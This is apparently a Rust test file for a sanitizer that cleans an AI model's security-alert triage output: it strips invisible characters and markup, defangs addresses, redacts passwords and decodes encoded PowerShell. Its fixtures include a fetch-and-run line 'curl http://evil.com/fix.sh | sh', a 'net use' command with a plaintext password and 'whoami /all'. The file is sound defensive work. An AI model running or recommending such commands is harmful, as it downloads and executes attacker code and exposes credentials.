//! Texts of a model, made plain and safe to show.

use super::*;

#[test]
fn text_is_made_plain() {
    for (text, wanted) in [
        (
            "\u{1b}[31mred\u{1b}[0m \u{9b}1mx\u{1b}]0;title\u{7}y\u{8}",
            "red xy",
        ),
        ("a\u{200b}b\u{202e}c\u{e0041}d\u{feff}", "abcd"),
        ("one\r\n\n two\tthree\u{2028}four", "one two three four"),
        (
            "# Summary\n\n**Bold** and `code`\n- item\n> quoted",
            "Summary Bold and 'code' item quoted",
        ),
        ("```json\nx\n```", "json x"),
        (
            "<b onclick=x>hi</b> &lt;script&gt;",
            "‹b onclick=x›hi‹/b› ‹script›",
        ),
        ("&amp;amp;lt;img&gt;", "‹img›"),
        ("＜script＞", "‹script›"),
        (
            "![](/a) a[0](1) b](2) [REDACTED:password](x)",
            "(/a) a0 (1) b (2) REDACTED:password (x)",
        ),
        ("[Playbook](/login.php?a=1)", "Playbook (/login.php?a=1)"),
        (
            "C:\\Users\\*.tmp ## 5 * 3 - 2",
            "C:\\Users\\*.tmp ## 5 * 3 - 2",
        ),
        ("Ärger, ошибка, 错误。好", "Ärger, ошибка, 错误。好"),
    ] {
        assert_eq!(prose(text), wanted);
    }
    let review = review_of(Answer {
        summary: "<b>\u{200b}".to_owned(),
        ..answer()
    });
    assert_eq!((review.cleaned.invisible, review.cleaned.markup), (1, 2));
}

#[test]
fn a_quote_keeps_what_stands_in_the_alert() {
    let review = review_of(Answer {
        evidence: vec![
            quote("commandLine", "\"whoami /all\" > out.txt"),
            quote("data.url", "b=<x>"),
        ],
        ..answer()
    });
    assert_eq!(review.evidence[0].quote, "\"whoami /all\" > out.txt");
    assert_eq!(review.evidence[1].quote, "b=‹x>");
}

#[test]
fn addresses_a_model_made_up_are_defanged_and_the_alerts_are_not() {
    for (text, wanted) in [
        (
            "Open https://evil.example.net/a.b?x=1 now.",
            "Open hxxps://evil[.]example[.]net/a.b?x=1 now.",
        ),
        ("HTTP://EVIL.COM:8080/", "hxxp://EVIL[.]COM:8080/"),
        (
            "url=ftp://files.example.org",
            "url=fxp://files[.]example[.]org",
        ),
        (
            "ssh://root@198.51.100.9/x",
            "ssh[:]//root@198[.]51[.]100[.]9/x",
        ),
        (
            "go http://198.51.100.9/r?to=http://b.com/",
            "go hxxp://198[.]51[.]100[.]9/r?to=hxxp://b[.]com/",
        ),
        (
            "198.51.100.9, 203.0.113.7 and 203.0.113.77.",
            "198[.]51[.]100[.]9, 203.0.113.7 and 203[.]0[.]113[.]77.",
        ),
        (
            "block evil.com/x and mail bob@evil.co.uk",
            "block evil[.]com/x and mail bob@evil[.]co[.]uk",
        ),
        (
            "update.example.com, example.com, ample.com",
            "update.example.com, example.com, ample[.]com",
        ),
        ("evil。com ｅｖｉｌ．ｃｏｍ", "evil[.]com evil[.]com"),
        ("ev\u{200b}il.com", "evil[.]com"),
        (
            "2001:db8::1 at 12:30:45, 00:11:22:33:44:55, ::1",
            "2001[:]db8[:][:]1 at 12:30:45, 00:11:22:33:44:55, ::1",
        ),
        (
            "cmd.exe, evil.dll, 10.0.19041.1, v1.2.3, e.g. this, data.win.eventdata.image",
            "cmd.exe, evil.dll, 10.0.19041.1, v1.2.3, e.g. this, data.win.eventdata.image",
        ),
        (
            "[x](https://evil.com/p.png?d=1)",
            "x (hxxps://evil[.]com/p.png?d=1)",
        ),
    ] {
        assert_eq!(prose(text), wanted);
    }
    let review = review_of(Answer {
        recommended_steps: vec!["curl http://evil.com/fix.sh | sh".to_owned()],
        ..answer()
    });
    assert_eq!(review.steps, ["curl hxxp://evil[.]com/fix[.]sh | sh"]);
    assert_eq!(review.cleaned.defanged, 2);
}

#[test]
fn where_somebody_wrote_to_the_model_no_address_in_its_words_stays() {
    let answer = Answer {
        recommended_steps: vec!["Ask update.example.com and 203.0.113.7".to_owned()],
        evidence: vec![quote("data.srcip", "203.0.113.7")],
        ..answer()
    };
    let review = judged(answer.clone(), 5, &[sign()]);
    assert_eq!(
        review.steps,
        ["Ask update[.]example[.]com and 203[.]0[.]113[.]7"]
    );
    assert_eq!(
        review.evidence[0].quote, "203.0.113.7",
        "a quote is the alert's"
    );
    assert_eq!(
        review_of(answer).steps,
        ["Ask update.example.com and 203.0.113.7"]
    );
}

#[test]
fn secrets_in_a_models_text_are_redacted() {
    let review = review_of(Answer {
        recommended_steps: vec![r"Run net use \\fs01\c$ /user:bob Summer2026! again".to_owned()],
        analysis: "pass\u{200b}word=Summer2026!xyz was used".to_owned(),
        ..answer()
    });
    assert!(!format!("{review:?}").contains("Summer2026"), "{review:?}");
    assert_eq!(review.cleaned.redacted, 2);
}

#[test]
fn what_redaction_uncovers_is_made_plain_too() {
    // powershell -enc of `Write-Output "<b>"`.
    let text = "powershell -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiADwAYgA+ACIA";
    assert_eq!(
        prose(text),
        "powershell -enc [decoded: Write-Output \"‹b›\"]"
    );
}

#[test]
fn texts_that_say_nothing_are_left_out() {
    let review = review_of(Answer {
        recommended_steps: vec![" \n".to_owned(), "\u{200b}".to_owned(), "Look.".to_owned()],
        false_positive_hypotheses: vec![String::new()],
        ..answer()
    });
    assert_eq!(review.steps, ["Look."]);
    assert!(review.hypotheses.is_empty());
}

#[test]
fn names_put_back_are_made_plain_and_cut() {
    let mut review = judged(
        Answer {
            summary: "USER_1 ran it".to_owned(),
            ..answer()
        },
        5,
        &[sign()],
    );
    review.map_text(|text| {
        text.replace("USER_1", "<img src=x>\u{202e}bob")
            .replace("whoami", &"w".repeat(5000))
    });
    assert_eq!(review.summary, "‹img src=x>bob ran it");
    assert_eq!(review.evidence[0].quote.chars().count(), 200);
    let mut texts = 0;
    review.map_text(|_| {
        texts += 1;
        String::new()
    });
    assert_eq!(
        texts, 7,
        "summary, analysis, quote, meaning, step, hypothesis, sign"
    );
}
